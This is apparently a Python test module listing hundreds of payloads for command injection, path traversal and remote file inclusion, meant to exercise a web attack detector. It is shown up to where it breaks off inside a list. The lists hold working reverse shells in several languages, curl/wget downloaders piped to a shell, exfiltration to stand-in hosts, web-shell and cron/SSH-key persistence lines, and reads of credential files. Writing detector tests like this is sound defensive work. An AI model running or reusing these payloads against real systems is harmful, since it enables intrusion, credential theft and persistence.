"""Blind set "hundredfiftyseventh": OS command injection, local file inclusion / path traversal and remote file
inclusion the way capture-the-flag players solve web challenges, with benign requests that carry the same words
innocently.

The angle: CTF write-ups, recalled from memory (none was looked up). Every web challenge has a filter, so each
winning payload works under a constraint: no spaces, no quotes, a keyword blacklist (cat, flag, php, http, ../),
a length limit, lowercase only, no slashes or dots, a prefix or suffix the code adds, a one-pass str_replace, a
blind sink with no output, or a parser differential between the validator and the consumer. The payload still
reaches the family's real goal: read the flag file, run a command, drop a web shell, call back a reverse shell,
include a remote file or reach an internal service. The constraint and the target (shell, cmd.exe, PowerShell,
CGI bash, PHP include, Java / Tomcat, IIS, Python or Node file readers) are named in a comment above each group.

Families (the `sub` of each record, one per detection title as remembered):
  rce: unix-command-injection (; | || && ` $() newline), unix-shell-evasion (quotes, ${IFS}, globbing, braces,
    variables, encodings), windows-cmd-injection, powershell, unix-command-with-path, reverse-shell (bash
    /dev/tcp, nc, python, perl, php, ruby, socat, awk), shellshock, downloader (curl/wget/tftp piped to a shell),
    file-write-via-shell (echo / printf / tee / redirection), restricted-file-in-command
  lfi: path-traversal (../ and ..\\ in plain, percent, double, overlong UTF-8, %u, fullwidth and NFKC forms),
    os-file-access (/proc/self/*, win.ini, boot.ini, web.config, .htaccess, .git/, .env, id_rsa), absolute-path,
    null-byte-truncation, php-wrapper-lfi, log-poisoning-target, restricted-file-extension
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url (page, file, template,
    include, path), off-domain-reference, remote-protocol (ftp, smb, UNC, WebDAV, data:, expect:)

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path; upload filenames for traversal in a filename), once the way a WAF regression
suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id, arg1), as a query
string, form body, JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a custom header or a
cookie. Shellshock goes in headers, cookies and the query string (what CGI bash imports); remote-include URLs
of the include-parameter family go under include-style names (page, file, template, include, path) in both
placements. Values that carry raw bytes 0x80-0xff (overlong UTF-8) are percent-encoded as Latin-1 bytes in
URL-encoded carriers only; values with NUL, CR or LF stay out of headers, cookies, paths and XML.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
Base64 pieces are computed here from the plain commands they carry. Measured once on unchanged code;
deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from typing import Any

from .blind_placements import CONTROLS_BUT_NUL, BlindSet, Cycles
from .records import print_records

NAME = "hundredfiftyseventh"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _ps(text: str) -> str:
    """PowerShell -EncodedCommand: base64 of the UTF-16LE script."""
    return base64.b64encode(text.encode("utf-16-le")).decode()


ATK = "203.0.113.50"   # the player's VPS
REV = f"bash -i >& /dev/tcp/{ATK}/4444 0>&1"
SHELL_PHP = "<?php system($_GET[0]);?>"

# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, real placement, rs placement) when the payload only works
# in one kind of place.
Entry = str | tuple[str, str, str]

# --- rce ---------------------------------------------------------------------------------------------------------
# Target: /bin/sh behind a "ping a host" form (PHP shell_exec("ping -c 1 " . $ip), Python os.system).
UNIX_SEPARATORS: list[Entry] = [
    # constraint: the IP check is a prefix regex ^\d+\.\d+\.\d+\.\d+ with no end anchor
    "127.0.0.1;cat /flag.txt",
    "127.0.0.1|cat flag.php",
    "1.1.1.1 && cat /home/ctf/flag.txt",
    "x||cat /flag",
    "8.8.8.8`cat /flag`",
    "8.8.8.8$(cat /flag)",
    # constraint: ; | & are blacklisted, the newline is not (PHP escapeshellcmd forgotten, %0a in the URL)
    "127.0.0.1\ncat /flag",
    "127.0.0.1\nls -la /",
    "127.0.0.1\r\nid",
    # constraint: only ; is blacklisted
    "127.0.0.1&id&",
    # constraint: blind sink (no output shown): time and DNS side channels
    "127.0.0.1;sleep 7",
    "x||ping -c 10 127.0.0.1",
    "127.0.0.1;nslookup $(whoami).oob.attacker.example",
    "127.0.0.1|dig +short `cat /flag|base64`.oob.attacker.example",
    # constraint: the host is quoted by the code: break out of the quotes first
    "';cat /flag;'",
    "\"; cat /flag; echo \"",
    "127.0.0.1'$(id)'",
    # constraint: option injection style, the value lands after `ping -c 1`
]
# Target: bash / dash behind the same forms, with the filter named per group.
UNIX_EVASION: list[Entry] = [
    # constraint: no spaces
    "127.0.0.1;cat${IFS}/flag",
    ";cat$IFS$9/flag.txt",
    ";{cat,/flag.txt}",
    ";cat</flag",
    ";IFS=,;`cat<<<cat,/flag`",
    # constraint: keyword blacklist on cat / flag
    ";c'a't /fl''ag",
    ";c\"a\"t /f\"la\"g",
    ";ca\\t /fl\\ag",
    ";/bin/c?t /fl?g",
    ";/???/c?t /f*",
    ";a=fl;b=ag;cat /$a$b",
    ";cat /f${x}lag",
    ";$(rev<<<'galf/ tac')",
    # constraint: letters blacklisted entirely: octal and hex escapes in ANSI-C quoting
    ";$'\\143\\141\\164' $'\\57\\146\\154\\141\\147'",
    ";$'\\x63\\x61\\x74' /flag",
    # constraint: slash blacklisted
    ";cat ${HOME:0:1}flag",
    # constraint: everything but base64 characters and | is filtered
    f";echo {_b64('cat /flag')}|base64 -d|sh",
    f";echo${{IFS}}{_b64('cat /flag')}|base64${{IFS}}-d|bash",
    # constraint: length limit of 7 characters
    ";nl /*",
]
# Target: cmd.exe behind an IIS / ASP.NET ping or nslookup tool.
WINDOWS_CMD: list[Entry] = [
    # constraint: none but the Windows host
    "127.0.0.1 & type C:\\flag.txt",
    "127.0.0.1 && type C:\\Users\\Administrator\\Desktop\\flag.txt",
    "127.0.0.1 | dir C:\\",
    "x || whoami /all",
    "127.0.0.1 & net user",
    # constraint: keyword blacklist on whoami / type / cmd: carets, quotes and %COMSPEC% substrings
    "127.0.0.1&w^h^o^a^m^i",
    "127.0.0.1&t\"y\"pe C:\\flag.txt",
    "127.0.0.1&%COMSPEC% /c type C:\\flag.txt",
    "127.0.0.1&%COMSPEC:~-7,3% /c whoami",
    "127.0.0.1&c^md /c \"type C:\\inetpub\\flag.txt\"",
    # constraint: blind: DNS exfiltration and time
    "127.0.0.1&for /f %i in ('whoami') do nslookup %i.oob.attacker.example",
    "127.0.0.1&ping -n 11 127.0.0.1",
    # constraint: the argument is quoted by the code
    "a.txt\" & dir c:\\ & \"",
    # goals beyond reading: find the flag, spawn a process, read the registry, fetch a tool
    "127.0.0.1&cmd /c dir /s /b C:\\*flag*",
    "127.0.0.1&wmic process call create \"calc.exe\"",
    "127.0.0.1&reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion",
    f"127.0.0.1&certutil -urlcache -split -f http://{ATK}/nc.exe C:\\Windows\\Temp\\nc.exe",
]
# Target: PowerShell (a Windows ping tool built on Invoke-Expression, pwsh on Linux containers).
POWERSHELL: list[Entry] = [
    # constraint: none
    "127.0.0.1; Get-Content C:\\flag.txt",
    "127.0.0.1;gc C:\\flag.txt",
    "';Get-ChildItem C:\\ -Recurse -Filter *flag*;'",
    "127.0.0.1; $(whoami)",
    # constraint: keyword blacklist on whoami / iex / Invoke-Expression
    "127.0.0.1;iex ('who'+'ami')",
    "127.0.0.1;&('i'+'ex') 'whoami'",
    "127.0.0.1;sal x iex;x 'whoami'",
    "127.0.0.1;[char[]](103,99,32,47,102,108,97,103)-join''|iex",
    "127.0.0.1;IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + _b64("whoami") + "')))",
    # constraint: only alphanumerics and spaces: -EncodedCommand
    "127.0.0.1 & powershell -enc " + _ps("Get-Content C:\\flag.txt"),
    "127.0.0.1 & powershell.exe -NoP -W Hidden -Exec Bypass -EncodedCommand " + _ps("whoami /priv"),
    # constraint: blind: push the flag out over HTTP
    f"127.0.0.1;Invoke-WebRequest http://{ATK}/?f=$(gc C:\\flag.txt)",
    f"127.0.0.1;(iwr http://{ATK}/x.ps1 -UseBasicParsing).Content|iex",
    f"127.0.0.1 & powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://{ATK}/a.ps1')\"",
    # goals: write output to the web root, inventory, disable the defender
    "127.0.0.1;Start-Process cmd -ArgumentList '/c whoami > C:\\inetpub\\wwwroot\\o.txt'",
    "127.0.0.1;Set-MpPreference -DisableRealtimeMonitoring $true",
    # constraint: Linux container with pwsh only
    "127.0.0.1;pwsh -c \"Get-Content /flag\"",
]
# Target: /bin/sh with an emptied or restricted PATH (rbash, PATH=/nonexistent): full paths to the binaries.
UNIX_FULL_PATH: list[Entry] = [
    ";/bin/cat /flag",
    ";/usr/bin/id",
    "|/usr/bin/whoami",
    ";/bin/ls -la /var/www/html",
    ";/usr/bin/head -c 100 /flag",
    ";/bin/busybox cat /flag",
    ";/usr/bin/find / -name 'flag*' -exec /bin/cat {} \\;",
    ";/usr/bin/env cat /flag",
    ";/bin/sh -c 'cat /flag'",
    # constraint: cat / head / tail / less are blacklisted: other readers by full path
    ";/usr/bin/python3 -c 'print(open(\"/flag\").read())'",
    ";/usr/bin/perl -e 'print `cat /flag`'",
    ";/usr/bin/awk '{print}' /flag",
    ";/usr/bin/sed -n p /flag",
    ";/usr/bin/xxd /flag",
    ";/usr/bin/base64 /flag",
    # constraint: setuid bash left on the box: keep privileges
    ";/bin/bash -p -c id",
]
# Target: the challenge box calling back to the player's listener (nc -lvnp 4444).
REVERSE_SHELLS: list[Entry] = [
    # bash /dev/tcp
    f";{REV}",
    f";bash -c '{REV}'",
    f";exec 5<>/dev/tcp/{ATK}/4444;cat <&5|while read l;do $l 2>&5 >&5;done",
    f";0<&196;exec 196<>/dev/tcp/{ATK}/4444; sh <&196 >&196 2>&196",
    f";sh -i >& /dev/udp/{ATK}/53 0>&1",
    # constraint: no spaces
    f";bash${{IFS}}-c${{IFS}}'bash${{IFS}}-i>&/dev/tcp/{ATK}/443<&1'",
    # constraint: only base64 characters pass the filter
    f";echo {_b64(REV)}|base64 -d|bash",
    # netcat variants (with and without -e)
    f";nc -e /bin/sh {ATK} 4444",
    f";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ATK} 4444 >/tmp/f",
    f";ncat {ATK} 4444 -e /bin/bash",
    f";telnet {ATK} 4444 | /bin/sh | telnet {ATK} 4445",
    # interpreters on the box
    f";python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{ATK}\",4444));"
    "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'",
    f";perl -e 'use Socket;$i=\"{ATK}\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    f";php -r '$s=fsockopen(\"{ATK}\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    f";ruby -rsocket -e 'c=TCPSocket.new(\"{ATK}\",4444);$stdin.reopen(c);$stdout.reopen(c);"
    "$stderr.reopen(c);exec \"sh\"'",
    f";node -e 'require(\"child_process\").exec(\"nc {ATK} 4444 -e sh\")'",
    f";awk 'BEGIN{{s=\"/inet/tcp/0/{ATK}/4444\";while(1){{printf \"> \"|&s;s|&getline c;"
    "while((c|&getline)>0)print|&s;close(c)}}}}'",
    # socat, full tty
    f";socat tcp-connect:{ATK}:4444 exec:/bin/sh,pty,stderr,setsid",
    # Windows box: PowerShell TCP client
    f"127.0.0.1;$c=New-Object System.Net.Sockets.TCPClient('{ATK}',4444);$s=$c.GetStream();"
    "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object "
    "Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII)"
    ".GetBytes($o),0,$o.Length)}",
]
# Target: CGI scripts run by bash < 4.3 patch 25 (CVE-2014-6271 and follow-ups); headers become env vars.
SHELLSHOCK: list[Entry] = [
    "() { :;}; echo; /bin/cat /etc/passwd",
    "() { :; }; /bin/bash -c 'cat /flag'",
    "() { :;}; /usr/bin/id",
    "() { _; } >_[$($())] { echo; /bin/id; }",
    "() { :;}; echo Content-Type: text/plain; echo; /bin/cat /flag",
    f"() {{ :;}}; /bin/bash -i >& /dev/tcp/{ATK}/4444 0>&1",
    f"() {{ :;}}; /usr/bin/wget http://{ATK}/s -O /tmp/s",
    "() { :;}; /bin/sleep 10",
    "() { (a)=>\\' /bin/bash -c 'id'",
    f"() {{ :;}};/usr/bin/curl -s http://{ATK}/$(id|base64)",
    f"() {{ ignored;}}; /bin/ping -c1 {ATK}",
    f"() {{:;}}; /bin/nc -e /bin/sh {ATK} 4444",
    "() { :;}; /bin/bash -c \"nslookup $(whoami).oob.attacker.example\"",
    "() { x;};echo;echo;/bin/ls -la /var/www/cgi-bin",
    "() { :;}; /bin/echo '<?php system($_GET[1]);' > /var/www/html/s.php",
    "() { :;}; /bin/cat /var/www/flag.txt",
]
# Target: /bin/sh on the box: fetch a stage from the player's server and pipe it to a shell.
DOWNLOADERS: list[Entry] = [
    f";curl http://{ATK}/s.sh|sh",
    f";wget -qO- http://{ATK}/s.sh|bash",
    "$(curl -fsSL https://attacker.example/i.sh|sh)",
    f"`wget -O /tmp/x http://{ATK}/x;chmod +x /tmp/x;/tmp/x`",
    f";busybox wget http://{ATK}/b -O /tmp/b;sh /tmp/b",
    # constraint: no spaces
    f";curl${{IFS}}-o${{IFS}}/tmp/r${{IFS}}{ATK}/r;sh${{IFS}}/tmp/r",
    # constraint: dots blacklisted: the IP as one integer or hex
    ";wget 3405803826/s -O-|sh",
    ";curl 0xcb007132|sh",
    # constraint: blind: push the flag out instead of pulling
    f";curl -d @/flag http://{ATK}/",
    ";curl -F f=@/flag attacker.example",
    f";wget --post-file=/flag http://{ATK}/",
    "|curl attacker.example/$(cat /flag|base64)",
    f";wget -q http://{ATK}/`cat /flag`",
    # constraint: curl and wget missing: other fetchers
    f";tftp -g -r x.sh {ATK};sh x.sh",
    f";python3 -c \"import urllib.request as u;exec(u.urlopen('http://{ATK}/p').read())\"",
    ";curl -sk https://attacker.example/x.sh -o /dev/shm/x&&sh /dev/shm/x",
]
# Target: /bin/sh writing into the web root, cron or SSH config (output not shown, but the file is served).
FILE_WRITE: list[Entry] = [
    f";echo '{SHELL_PHP}' > /var/www/html/s.php",
    f";echo {_b64(SHELL_PHP)}|base64 -d>/var/www/html/x.php",
    ";printf '<?=`$_GET[1]`;'>sh.php",
    ";>/var/www/html/x.php echo '<?php eval($_POST[1]);'",
    ";tee /var/www/html/c.php <<< '<?php passthru($_REQUEST[c]);'",
    # constraint: blind: copy the flag where the web server serves it
    ";cat /flag > /var/www/html/static/f.txt",
    ";cp /flag /var/www/html/f",
    ";id|tee /var/www/html/id.txt",
    ";ls -la / > /app/static/out.txt",
    ";dd if=/flag of=/var/www/html/f.txt",
    # persistence the box keeps
    ";echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHxPl4y3rKeyForCtfBoxOnly player@kali' >> /root/.ssh/authorized_keys",
    f";echo '* * * * * root {REV}' > /etc/cron.d/x",
    ";echo -e '#!/bin/sh\\ncat /flag' > /tmp/r.sh",
    # constraint: 4-character commands: build a script from file names, then run it
    ";ls -t>g;sh g",
    # Windows box: ASP web shell into the IIS root
    "127.0.0.1&echo ^<%eval request(\"x\")%^> > C:\\inetpub\\wwwroot\\x.asp",
]
# Target: /bin/sh reading the files a player wants after the shell: credentials, secrets, history.
RESTRICTED_FILES: list[Entry] = [
    ";cat /etc/shadow",
    ";cat /etc/passwd",
    "|more /etc/passwd",
    ";cat /root/.ssh/id_rsa",
    ";cat /proc/self/environ",
    ";cat ~/.bash_history",
    ";cat /var/www/html/.env",
    ";tail -n 50 /var/log/apache2/access.log",
    ";grep -r flag /etc/",
    ";cat /home/*/.ssh/authorized_keys",
    ";cat /etc/sudoers",
    ";cat /root/flag.txt",
    ";cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    ";cat ~/.aws/credentials",
    "127.0.0.1&type C:\\Windows\\System32\\drivers\\etc\\hosts",
    "127.0.0.1&type C:\\boot.ini",
]

# --- lfi ---------------------------------------------------------------------------------------------------------
# Target: a file reader (PHP include / file_get_contents, Python open, Node fs.readFile, Java Files.read)
# taking ?file= or ?page=, with the filter named per group.
TRAVERSAL: list[Entry] = [
    # constraint: none
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "../../../../../../../../../../../../etc/passwd",
    # constraint: one-pass str_replace('../', '')
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "....\\\\....\\\\....\\\\windows\\\\win.ini",
    # constraint: the app decodes twice (the WAF or framework decoded once already)
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "..%255c..%255cboot.ini",
    "%2e%2e%5c%2e%2e%5cweb.config",
    ".%2e/.%2e/.%2e/flag",
    # constraint: IIS / old Java decoders: overlong UTF-8, %u and nibble encodings
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "\xc0\xae\xc0\xae/\xc0\xae\xc0\xae/\xc0\xae\xc0\xae/etc/passwd",
    "..%u2215..%u2215windows%u2215win.ini",
    "%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
    "%%32%65%%32%65/%%32%65%%32%65/etc/passwd",
    # constraint: Python unicodedata.normalize('NFKC') after the check
    "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd",
    "\u2025/\u2025/\u2025/flag.txt",
    # constraint: the path must start with the allowed directory
    "/var/www/html/../../../etc/passwd",
    "/app/static/../../flag.txt",
    # constraint: Tomcat behind a proxy (path parameters), Spring / nginx normalisation
    "..;/..;/..;/etc/passwd",
    "/static/..;/WEB-INF/web.xml",
    "./.././.././../etc/passwd",
    "..\\/..\\/..\\/etc/passwd",
    # constraint: traversal in an upload's filename (the file lands where the name says)
    ("../../../var/www/html/shell.php", "multipart-filename", "rs-multipart-filename"),
    ("..\\..\\..\\inetpub\\wwwroot\\cmd.aspx", "multipart-filename", "rs-multipart-filename"),
]
# Target: the same readers, going for the files that leak the box (Linux procfs, Windows, web apps, VCS).
OS_FILES: list[Entry] = [
    # procfs: environment (the flag is often an env var), command line, source through cwd, open fds
    "../../../../proc/self/environ",
    "../../../../proc/self/cmdline",
    "../../../proc/self/cwd/app.py",
    "../../../../proc/self/maps",
    "....//....//proc/self/status",
    "../../../proc/self/cwd/flag.txt",
    # Windows markers
    "..\\..\\..\\..\\..\\windows\\system.ini",
    "../../../../windows/system32/drivers/etc/hosts",
    "../../../../../windows/repair/sam",
    "..\\..\\..\\Users\\Administrator\\.ssh\\id_rsa",
    # web app configuration and version control
    "../web.config",
    "../../.htaccess",
    "../.htpasswd",
    "../.git/HEAD",
    "../../.git/config",
    ".git/logs/HEAD",
    "../.svn/entries",
    "../.env",
    "../WEB-INF/web.xml",
    "../../config/database.yml",
    # keys, accounts, cloud and cluster secrets
    "../../../home/ctf/.ssh/id_rsa",
    "../../../root/.ssh/id_rsa",
    "../../../../etc/shadow",
    "../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
    "../../.aws/credentials",
    "../../../.bash_history",
]
# Target: readers that accept an absolute path outright (os.path.join drops the prefix, include with no base).
ABSOLUTE_PATHS: list[Entry] = [
    # constraint: ../ blacklisted, absolute paths are not
    "/etc/passwd",
    "/flag",
    "/flag.txt",
    "/home/ctf/flag.txt",
    "/proc/self/cmdline",
    "/root/.bash_history",
    "/var/www/html/config.php",
    "/usr/local/etc/php/php.ini",
    "/etc/nginx/nginx.conf",
    "/proc/self/root/flag",
    "/app/.env",
    "/run/secrets/flag",
    "/srv/app/config/secrets.yml",
    # constraint: the literal /etc/passwd is blacklisted: equivalent spellings
    "//etc/passwd",
    "/./././etc/passwd",
    "/etc/./passwd",
    "/etc//passwd",
    # constraint: lowercase only, Windows host
    "c:\\windows\\win.ini",
    "c:/windows/system32/drivers/etc/hosts",
    "c:\\boot.ini",
    "C:\\inetpub\\wwwroot\\web.config",
    "\\\\?\\C:\\Windows\\win.ini",
    # constraint: the reader is urlopen / file_get_contents: the file scheme
    "file:///etc/passwd",
    "file:///C:/Windows/win.ini",
    "file://localhost/flag",
]
# Target: PHP < 5.3.4 include with a forced extension, old Java and C readers: NUL bytes and path truncation.
NULL_BYTES: list[Entry] = [
    "../../../etc/passwd\x00",
    "../../../../etc/passwd\x00.php",
    "../../../flag\x00.jpg",
    "/etc/passwd\x00.html",
    "..\\..\\..\\windows\\win.ini\x00.txt",
    "../../WEB-INF/web.xml\x00.jpg",
    "/flag.txt\x00.png",
    "../../../../proc/self/environ\x00",
    "....//....//etc/passwd\x00.inc",
    # constraint: the app decodes twice
    "../../../etc/passwd%00",
    "../../../../flag%00.php",
    "..%2f..%2f..%2fetc%2fpasswd%00",
    # constraint: PHP < 5.3 path truncation at 4096 bytes (the forced .php falls off the end)
    "../../../etc/passwd" + "/." * 2100,
    "../../../../flag.txt" + "/" * 4100,
    "../../../etc/passwd" + "./" * 2050,
    # constraint: Windows strips trailing dots and spaces
    "..\\..\\..\\windows\\win.ini" + "." * 300,
    "../../../flag.txt . . .",
    "../../../etc/passwd\x00/../../index.php",
    "php://filter/convert.base64-encode/resource=flag\x00",
    "../../../../var/www/html/config.php\x00.css",
]
# Target: PHP include / file_get_contents, with the stream wrappers CTF players reach for first.
PHP_WRAPPERS: list[Entry] = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=convert.base64-encode/resource=flag.php",
    "php://filter/resource=/etc/passwd",
    "php://filter/convert.base64-encode/resource=../../../../etc/passwd",
    # constraint: the code appends .php itself
    "php://filter/read=convert.base64-encode/resource=index",
    # constraint: base64 blacklisted: other filters that defeat execution
    "php://filter/string.rot13/resource=config.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=flag.php",
    "php://filter/convert.quoted-printable-encode/resource=flag.php",
    "php://filter/read=string.toupper|string.rot13/resource=flag.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/index.php",
    "php://filter/convert.b%61se64-encode/resource=flag.php",
    # constraint: case-sensitive keyword filter on php://
    "PhP://FilTer/convert.base64-encode/resource=flag",
    "pHp://FILTER/convert.base64-encode/resource=index",
    # constraint: the string must contain "php://filter" only once at the start
    "php://filter/read=convert.base64-encode/resource=php://filter/resource=flag.php",
    # constraint: no upload of .php: archives and phar metadata
    "zip:///var/www/html/uploads/a.zip%23shell.php",
    "zip://uploads/avatar.jpg#s.php",
    "phar:///var/www/html/uploads/x.jpg/shell.php",
    "phar://./uploads/a.gif/a",
    # other wrappers: zlib, glob listing, body as code, filter-chain RCE
    "compress.zlib:///etc/passwd",
    "compress.zlib://flag.php",
    "glob:///var/www/html/*",
    "php://input",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7/resource=php://temp",
    "file:///var/www/html/flag.php",
]
# Target: PHP include of a file the player can write into: web, SSH, FTP, mail logs, sessions, upload temp files.
LOG_POISON: list[Entry] = [
    "../../../../var/log/apache2/access.log",
    "/var/log/apache2/error.log",
    "../../../../var/log/nginx/access.log",
    "/var/log/nginx/error.log",
    "/var/log/httpd/access_log",
    "/usr/local/apache2/logs/access_log",
    "/opt/lampp/logs/access_log",
    "C:\\xampp\\apache\\logs\\access.log",
    "..\\..\\..\\xampp\\apache\\logs\\error.log",
    # SSH username and FTP login poisoning, mail to www-data
    "/var/log/auth.log",
    "/var/log/sshd.log",
    "../../../../var/log/vsftpd.log",
    "/var/log/mail.log",
    "/var/mail/www-data",
    # session file poisoning (the username is stored in the session)
    "/tmp/sess_9b1c2e3f4a5d6e7f8a9b0c1d2e",
    "/var/lib/php/sessions/sess_abc123def456",
    "/var/lib/php5/sess_0f1e2d3c4b5a",
    # docker stdout / stderr and the phpinfo() upload race
    "/proc/self/fd/1",
    "/proc/self/fd/2",
    "/tmp/phpA1b2C3",
    "../../../../../var/log/apache2/access.log",
]
# Target: the web server or app serving backups and configs the player guessed (editor swap, .bak, dumps).
RESTRICTED_EXTENSIONS: list[Entry] = [
    "../config.php.bak",
    "index.php.bak",
    "config.inc.php~",
    "../wp-config.php.old",
    "../../backup.sql",
    "../db/dump.sql",
    "../web.config.bak",
    "../../php.ini",
    "../app.ini",
    "../../.env.old",
    "../settings.py.orig",
    "database.yml.bak",
    "../config/secrets.ini",
    "../site.config",
    "../Web.config.old",
    ".index.php.swp",
    "../../conf/server.xml.bak",
    "../includes/connect.inc",
    "../../application.properties.bak",
    "../logs/debug.log.old",
    "users.sql.gz",
    "../../my.cnf.bak",
]

# --- rfi ---------------------------------------------------------------------------------------------------------
# Target: PHP include($_GET['page']) with allow_url_include=On, the player's server found by address only.
URL_IP: list[Entry] = [
    f"http://{ATK}/shell.txt",
    f"http://{ATK}:8000/s.php",
    "https://198.51.100.23/r.txt",
    "http://198.51.100.23/shell.php",
    "http://192.0.2.77:8080/inc/cmd.txt",
    f"http://{ATK}:443/evil.txt",
    # constraint: dots blacklisted / the host must not look like an IP: other notations
    "http://3405803826/s.txt",
    "http://0xcb.0x00.0x71.0x32/s.txt",
    "http://0313.0.0161.062/x.txt",
    "http://203.0.28978/x.txt",
    "http://[::ffff:cb00:7132]/x.txt",
    # constraint: lowercase "http" blacklisted
    f"HTTP://{ATK}/S.TXT",
    f"hTtP://{ATK}/x",
    # constraint: extension whitelist (.jpg / .txt must appear): fragments and NUL
    f"http://{ATK}/x.jpg",
    f"http://{ATK}/x.txt#.php",
    f"http://{ATK}/x.txt\x00",
    # constraint: scheme blacklisted: network-path reference, backslashes, userinfo
    f"//{ATK}/x.php",
    f"http:\\\\{ATK}\\x.txt",
    f"http://attacker.example@{ATK}/x.txt",
    # goal: reach an internal service the include can see
    "http://127.0.0.1:8080/flag",
    "http://2130706433/flag.php",
    "http://0x7f000001:80/flag",
    "http://127.1/flag.php",
    "http://0/flag.php",
    "http://[::1]/flag.php",
    "http://10.0.0.5/internal/flag",
    "http://192.168.0.1/admin/config.php",
    f"http://{ATK}/%73hell.txt",
    # more of the same under other filters: a second VPS, mixed notations, IPv6, wildcard-free metadata
    "http://198.51.100.23:8080/",
    f"http://{ATK}/inc.php.txt",
    "http://192.0.2.77/r57.txt",
    "http://3405803826:8000/p.txt",
    "http://0xcb007132/s.txt",
    "http://0xcb.0.113.50/s.txt",
    "http://[0:0:0:0:0:ffff:203.0.113.50]/s.txt",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
]
# Target: PHP include($_GET['page'] . '.php'): the trailing ? turns the forced suffix into a query string.
URL_QMARK: list[Entry] = [
    "http://attacker.example/shell.txt?",
    "https://evil.attacker.example/s.txt?",
    "http://attacker.example/inc.txt??",
    "http://attacker.example/c99.txt?&",
    "https://raw.githubusercontent.com/attacker/payloads/main/shell.php?",
    "https://pastebin.com/raw/aB3dE5fG?",
    "https://gist.githubusercontent.com/attacker/abc123/raw/s.txt?",
    "ftp://anonymous:anonymous@attacker.example/s.txt?",
    "http://attacker.example/s.txt?page=",
    "http://attacker.example:8080/r57.txt?",
    "http://attacker.example/s.txt?x=",
    "https://a1b2c3d4.ngrok.io/s.txt?",
    "https://webhook.site/0c1e8f4a-7d1b-4f0a-9a32-aa11bb22cc33/s.txt?",
    "http://198.51.100.23/s.txt??",
    "//attacker.example/s.txt?",
    "http://attacker.example/?",
    "http://attacker.example/s.txt?.jpg",
    "http://attacker.example/s.txt?suffix=",
    # constraint: case-sensitive blacklist
    "HtTp://AtTaCkEr.example/s.txt?",
    # constraint: ? blacklisted but # or the encoded ? is not
    "http://attacker.example/s.txt%3f",
    "http://attacker.example/s.txt%23",
    "http://attacker.example/s.txt?%00",
    # the stage carries its own command
    "http://attacker.example/cmd.txt?c=cat+/flag&",
    "https://attacker.example/inc/conf.txt?lang=",
    # constraint: suffix is .inc.php / .tpl / .html: same trick, other stage names and hosts
    "http://attacker.example/shell.txt?a=",
    "https://attacker.example/inc?",
    "http://shell.attacker.example/x?",
    "http://attacker.example/s.txt?xyz",
    "https://bit.ly/3xYz9Ab?",
    "http://attacker.example/s.gif?",
    "ftp://attacker.example/pub/s.txt?",
    "https://attacker.example/stage2.txt?v=1&",
]
# Target: PHP / JSP / ASP include under the usual names (page, file, template, include, path): a plain URL.
INCLUDE_PARAM: list[Entry] = [
    "http://attacker.example/shell.txt",
    "https://attacker.example/backdoor.txt",
    "http://attacker.example/inc/header.php",
    "http://attacker.example/templates/evil.tpl",
    "http://attacker.example/s.txt?cmd=cat+/flag",
    "https://attacker.example/lang/en.txt",
    "http://attacker.example/r.php.txt",
    "https://static.attacker.example/footer.inc",
    "http://attacker.example/jsp/cmd.jsp",
    "http://attacker.example/asp/cmd.asp",
    "http://attacker.example:8000/p",
    "https://attacker.example/x/../s.txt",
    "http://attacker.example/skin/default/index.php",
    "http://attacker.example/s.txt?.html",
    "https://attacker.example/wp-content/s.txt",
    "http://attacker.example/webshell.aspx",
    "https://attacker.example/config.txt",
    "http://attacker.example/includes/db.php",
    "http://attacker.example/view.txt",
    "http://attacker.example/x.txt%00",
    "https://attacker.example/php/s.txt",
